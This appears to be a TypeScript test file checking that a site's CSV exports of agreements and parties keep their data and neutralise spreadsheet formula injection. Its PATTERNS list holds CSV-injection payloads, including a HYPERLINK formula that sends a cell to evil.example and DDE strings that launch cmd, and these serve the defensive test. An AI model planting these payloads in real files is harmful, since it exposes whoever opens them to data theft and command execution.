import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { createIndex } from "../../src/dataset/createIndex.ts";
import type { Dataset } from "../../src/dataset/types.ts";
import { formatAgreementsCsv } from "../../src/share/formatAgreementsCsv.ts";
import { formatCsv } from "../../src/share/formatCsv.ts";
import { formatPartiesCsv } from "../../src/share/formatPartiesCsv.ts";
import { forum, full, small, tricky } from "../fixtures/knownDatasets.ts";
import { makeDataset } from "../fixtures/makeDataset.ts";
import { tinyDataset } from "../fixtures/tinyDataset.ts";
import { WORDS } from "../i18n/words.ts";

const BASE = "https://atlas.example/deep/";
const DATASETS = [forum, full, small, tricky, tinyDataset, makeDataset({ seed: 8, agreements: 50, sides: 3 })];
const TABLES = [
  ["agreements", formatAgreementsCsv],
  ["parties", formatPartiesCsv],
  ["participations", formatCsv],
] as const;

type Rows = readonly Readonly<Record<string, string>>[];

function rowsOf(format: typeof formatCsv, dataset: Dataset, base = BASE): Rows {
  const { data, errors } = Papa.parse<Record<string, string>>(format(WORDS.en, createIndex(dataset), base), {
    header: true,
  });
  expect(errors).toEqual([]);
  return data;
}

/** What an importer has to undo: the apostrophe before what a spreadsheet would run, at the start and behind a separator. */
const plain = (text = ""): string =>
  text
    .replace(/^'(?=[\s']*[=+\-@＝＋－＠]|'*[\t\r\n])/, "")
    .replaceAll(/([;\t\r\n]["'\s]*)'(?=[=+\-@＝＋－＠])/g, "$1");

describe("the table of agreements", () => {
  it.each(DATASETS)("of $title has one row per agreement with what the data says of it", (dataset) => {
    const rows = rowsOf(formatAgreementsCsv, dataset);
    expect(rows).toHaveLength(dataset.agreements.length);
    dataset.agreements.forEach((agreement, place) => {
      const row = rows[place];
      expect(row).toMatchObject({ id: agreement.id, type: agreement.type, signed: agreement.signed ?? "" });
      expect(plain(row?.["title"])).toBe(agreement.title);
      expect(row?.["address"]).toBe(`${BASE}en/agreement/${agreement.id}/`);
    });
  });

  it.each(DATASETS)("of $title names the parties by id, with side and role, in their order", (dataset) => {
    const sides = (dataset.sides ?? []).map(({ id }) => id);
    rowsOf(formatAgreementsCsv, dataset).forEach((row, place) => {
      const named = (row["parties"] ?? "").split("; ").filter((text) => text !== "");
      const read = named.map((text) => {
        const [, party, side, role = "signatory"] = /^([a-z0-9-]+)(?: \[(\d+)\])?(?: \((\w+)\))?$/.exec(text) ?? [];
        return { party, side: side === undefined ? undefined : sides[Number(side) - 1], role };
      });
      const { participants } = dataset.agreements[place] ?? { participants: [] };
      expect(read).toEqual(
        participants
          .filter(({ party }) => party !== undefined)
          .map(({ party, side, role = "signatory" }) => ({ party, side, role })),
      );
      expect(row["parties_not_named"]).toBe(participants.flatMap(({ unknown }) => unknown ?? []).join(" | "));
    });
  });

  it("says on what each value rests, who says so and in which words", () => {
    const [row] = rowsOf(formatAgreementsCsv, forum);
    expect(row).toMatchObject({ type_basis: "stated", parties_basis: "stated", status_basis: "inferred" });
    expect(row?.["quotes"]).not.toBe("");
    expect([row?.["dataset_version"], row?.["dataset_updated"]]).toEqual([forum.version, forum.updated]);
  });

  it("keeps back a status that no claim supports, as the pages do", () => {
    const [first] = small.agreements;
    if (first === undefined) throw new Error("the fixture has no agreement");
    expect(rowsOf(formatAgreementsCsv, { ...small, agreements: [{ ...first, status: "signed" }] })[0]?.["status"]).toBe(
      "",
    );
  });
});

describe("the table of parties", () => {
  it.each(DATASETS)("of $title has one row per party with what the data says of it", (dataset) => {
    const rows = rowsOf(formatPartiesCsv, dataset);
    expect(rows).toHaveLength(dataset.parties.length);
    dataset.parties.forEach((party, place) => {
      const row = rows[place];
      expect(row).toMatchObject({
        id: party.id,
        kind: party.kind,
        country: party.country ?? "",
        parent: party.parent ?? "",
        wikidata: party.ids?.["wikidata"] ?? "",
        lat: String(party.location?.lat ?? ""),
      });
      expect(plain(row?.["name"])).toBe(party.name);
      expect(plain(row?.["name_ru"])).toBe(party.names?.["ru"] ?? "");
    });
  });

  it.each(["=1", "'=1", "''-1", "a;-b", "a;'-b", "'\tx", "a 'quoted' =1"])(
    "gives back %j once the guard is undone",
    (name) => {
      const [first] = small.parties;
      if (first === undefined) throw new Error("the fixture has no party");
      const [row] = rowsOf(formatPartiesCsv, { ...small, parties: [{ ...first, name }] });
      expect(plain(row?.["name"])).toBe(name);
    },
  );

  it("writes a southern latitude as the number that it is", () => {
    const [first] = small.parties;
    if (first === undefined) throw new Error("the fixture has no party");
    const location = { lat: -33.5, lon: -70.25, label: "=1+1" };
    const [row] = rowsOf(formatPartiesCsv, { ...small, parties: [{ ...first, location }] });
    expect(row).toMatchObject({ lat: "-33.5", lon: "-70.25", place: "'=1+1" });
  });

  it("has addresses below the site's base where the site has no address yet", () => {
    const [row] = rowsOf(formatPartiesCsv, forum, "");
    expect(row?.["address"]).toBe(`en/party/${forum.parties[0]?.id ?? ""}/`);
  });
});

/** Starts of a cell that a spreadsheet runs, by OWASP's page on CSV injection, and ways round a guard that only looks at the start. */
const PATTERNS = [
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "\tplain",
  "  =1+1",
  "\u00A0=1+1",
  "\uFF1D1+1",
  "\uFF0B1+1",
  "\uFF0D1+1",
  "\uFF201+1",
  "plain;=1+1;",
  'plain;"=1+1";',
  "plain; +1+1",
  "plain\t=1+1",
  "plain\n=1+1",
  "plain\r\n@SUM(1)",
];

/** Cells as a spreadsheet takes them that was set up for another separator and reads no quotes. */
const crudeCells = (text: string): readonly string[] =>
  text
    .replace(/^\uFEFF/, "")
    .split(/[;\t\r\n]/)
    .map((cell) => cell.replace(/^["\s]+/, ""));

describe.each(TABLES)("in the table of %s", (_, format) => {
  it.each(PATTERNS)("no cell with %j can run", (hostile) => {
    const [first] = full.agreements;
    const [party] = full.parties;
    if (first === undefined || party === undefined) throw new Error("the fixture is empty");
    const claims = first.claims.map((claim) => ({ ...claim, quote: hostile }));
    const dataset: Dataset = {
      ...full,
      version: hostile,
      parties: full.parties.map((one) => ({
        ...one,
        name: hostile,
        names: { en: hostile, ru: hostile },
        aliases: [{ name: hostile, basis: "stated" }],
        note: hostile,
      })),
      sectors: (full.sectors ?? []).map((sector) => ({ ...sector, name: hostile })),
      sides: (full.sides ?? []).map((side) => ({ ...side, label: hostile, labels: {} })),
      events: (full.events ?? []).map((event) => ({ ...event, name: hostile, names: {} })),
      agreements: [
        {
          ...first,
          title: hostile,
          titles: { en: hostile, ru: hostile },
          typeText: hostile,
          note: hostile,
          scope: [hostile, hostile],
          claims,
          participants: [{ party: party.id, as: hostile }, { unknown: hostile }],
        },
      ],
    };
    const text = format(WORDS.en, createIndex(dataset), BASE);
    const { data } = Papa.parse<Record<string, string>>(text, { header: true });
    const cells = data.flatMap((row) => Object.values(row));
    expect(cells.filter((cell) => cell.includes(hostile.trim().slice(-3))).length).toBeGreaterThan(2);
    for (const cell of cells)
      if (!/^-?\d+(\.\d+)?$/.test(cell)) expect(cell).not.toMatch(/^(?:\s*[=+\-@＝＋－＠]|[\t\r\n])/);
    for (const cell of crudeCells(text)) expect(cell).not.toMatch(/^[=+\-@＝＋－＠]/);
  });
});
